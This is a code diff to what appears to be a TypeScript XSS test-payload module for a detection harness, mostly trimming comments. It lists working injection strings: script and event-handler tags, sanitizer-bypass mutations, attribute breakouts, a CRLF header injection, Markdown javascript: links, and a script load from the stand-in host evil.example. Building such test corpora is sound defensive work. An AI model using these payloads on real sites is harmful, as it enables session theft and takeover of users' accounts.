@@ -1,7 +1,4 @@
-/**
- * What people have put into text fields to have it run, asked for, or taken for a part of the page. `§` stands for the mark
- * by which the gate knows a payload again; it runs as `__ran('§')`, leaves for `evil.example/§`, and names what it makes.
- */
+/** Injection payloads. `§` is the mark by which the gate recognizes a payload: it runs as `__ran('§')` or loads `evil.example/§`. */
 const tags = [
   `<script>__ran('§')</script>`,
   `<ScRiPt src=//evil.example/§></sCrIpT>`,
@@ -55,7 +52,6 @@ const tags = [
   `<frameset onload=__ran('§')>`,
 ]
 
-/** What is one thing to a cleaner and another to the browser. */
 const mutations = [
   `<noscript><p title="</noscript><img src=x onerror=__ran('§')>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__ran('§')&gt;">`,
@@ -79,7 +75,6 @@ const mutations = [
   `+ADw-script+AD4-__ran('§')+ADw-/script+AD4-`,
 ]
 
-/** Ways out of where a text is put. */
 const endings = [
   `"><img src=x onerror=__ran('§')>`,
   `'><svg onload=__ran('§')>`,
@@ -103,7 +98,6 @@ const endings = [
   `"\r\nContent-Type: text/html\r\n\r\n<script>__ran('§')</script>`,
 ]
 
-/** What Markdown makes of it. */
 const markdown = [
   `[press](javascript:__ran('§'))`,
   `[press](JaVaScRiPt:__ran('§'))`,
@@ -148,7 +142,6 @@ const markdown = [
   `<div markdown=1>\n\n[press](javascript:__ran('§'))\n\n</div>`,
 ]
 
-/** Addresses, templates, names and signs. */
 const words = [
   `javascript:__ran('§')`,
   `data:text/html,<script>__ran('§')</script>`,
@@ -172,13 +165,11 @@ const words = [
 ]
 
 export const payloads: readonly string[] = [...tags, ...mutations, ...endings, ...markdown, ...words]
-/** Which of them runs wherever it becomes markup at all. */
 export const imageThatRuns = payloads.indexOf(`<img src=x onerror=__ran('§')>`)
 
-/** How a payload with this number in a field with this number is known again. */
 export const markOf = (payload: number, field: number) => `x${payload}f${field}x`
 export const anyMark = /x(\d+)f(\d+)x/g
 
-/** What would stay open behind it, and make everything after it its own, stands last. */
+/** The mark comes last if a payload would swallow what follows. */
 export const withMark = (payload: number, field: number) =>
   (payloads[payload] ?? '').replaceAll('§', markOf(payload, field))
